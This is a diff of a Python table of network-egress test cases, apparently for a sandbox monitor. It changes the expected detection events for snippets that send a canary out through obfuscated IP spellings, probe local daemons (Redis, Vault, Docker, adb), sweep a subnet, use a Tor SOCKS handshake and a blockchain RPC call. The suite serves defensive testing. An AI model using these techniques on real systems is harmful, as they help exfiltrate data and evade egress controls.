@@ -230,9 +230,9 @@ ROWS = [
         a, b, c, d = (int(n) for n in SINK.split("."))
         for text in (str(a << 24 | b << 16 | c << 8 | d), "0x%02x%02x%02x%02x" % (a, b, c, d), "%d.%d.%d" % (a, b, c << 8 | d), "0%o.0%o.0%o.0%o" % (a, b, c, d)):
             attempt(pwkit.send, CANARY, text, 4444)
-        """), sink(), (connect(port=4444), resolve("net.resolve.spelling", "181075970"), resolve("net.resolve.spelling", "0x0acb0002"),
-                       resolve("net.resolve.spelling", "10.203.2"), resolve("net.resolve.spelling", "012.0313.00.02"))),
-    Row("NE-28", "TCP Fast Open: data without connect", "native", "", sink(), Event("net.fastopen", ("net.send", "syscall.denied")), native="fast_open"),
+        """), sink(), (connect(port=4444), *(Event("net.resolve.spelling", "net.resolve", {"host": text, "address": INET4}, action="allowed")
+                                                 for text in ("181075970", "0x0acb0002", "10.203.2", "012.0313.00.02")))),
+    Row("NE-28", "TCP Fast Open: data without connect", "native", "", sink(), Event("net.fastopen", "net.connect", {"address": INET4, "port": "4444"}, "medium"), native="fast_open"),
     Row("NE-30", "MPTCP, SCTP, UDP-Lite, DCCP", "native", "", sink(), (refused_socket("AF_INET/SOCK_STREAM/262"), refused_socket("AF_INET/SOCK_DGRAM/136"),
         refused_socket("AF_INET/SOCK_STREAM/132"), refused_socket("AF_INET/6/33")), native="odd_protocols"),
     Row("NE-31", "ICMP: ping socket, raw socket, ping", "native", "", sink(), (refused_socket("AF_INET/SOCK_DGRAM/1", "net.socket.raw"),
@@ -287,7 +287,7 @@ ROWS = [
         for daemon, text in (("redis", "CONFIG SET dir /tmp\\r\\n"), ("vault", "GET /v1/secret HTTP/1.1\\r\\n\\r\\n"), ("docker", "GET /containers/json HTTP/1.1\\r\\n\\r\\n"),
                              ("jupyter", "GET /api HTTP/1.1\\r\\n\\r\\n"), ("devtools", "GET /json HTTP/1.1\\r\\n\\r\\n"), ("adb", "000chost:version")):
             attempt(pwkit.send, text + CANARY, "127.0.0.1", pwkit.target("port_" + daemon))
-        """), tuple(told(f"NE-44-{n}") for n in LOOPBACK), tuple(connect("127.0.0.1", port, "net.loopback", "info") for port, _ in LOOPBACK.values()), setup=loopback),
+        """), tuple(told(f"NE-44-{n}") for n in LOOPBACK), tuple(connect("127.0.0.1", port, "net.loopback.daemon") for port, _ in LOOPBACK.values()), setup=loopback),
     Row("NE-45", "sweep of a local network", "import", act("""
         for low in range(1, 255):
             for port in (22, 80, 2375):
@@ -295,7 +295,7 @@ ROWS = [
                     s.setblocking(False)
                     s.connect_ex(("10.66.7.%d" % low, port))
         time.sleep(0.05)
-        """), Effect.call(scanned), Event("net.sweep", "net.connect", severity="high")),
+        """), Effect.call(scanned), Event("net.sweep", "net.connect", {"address": "10.66.7.0/24"}, "high")),
     Row("NE-47", "network by io_uring", "native", "", sink(), Event("syscall.io_uring", "syscall.denied"), native="uring_network"),
     Row("NE-48", "UDP bursts and multicast", "build", act("""
         s = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
@@ -330,7 +330,7 @@ ROWS = [
                 s.sendall(b"\\5\\1\\0\\3" + bytes([len(host)]) + host + struct.pack("!H", 80))
                 s.recv(10)
         attempt(socks)
-        """), told("tor"), connect("127.0.0.1", 9050, "net.loopback", "info"), setup=tor),
+        """), told("tor"), connect("127.0.0.1", 9050, "net.loopback.daemon"), setup=tor),
     Row("NE-52", "a chain's node by JSON-RPC", "import", act("""
         call = {"jsonrpc": "2.0", "id": 1, "method": "sendTransaction", "params": [base64.b64encode(CANARY.encode()).decode(), {"memo": CANARY}]}
         attempt(ask, "https://api.devnet.solana.com/", json.dumps(call).encode(), **{"Content-Type": "application/json"})
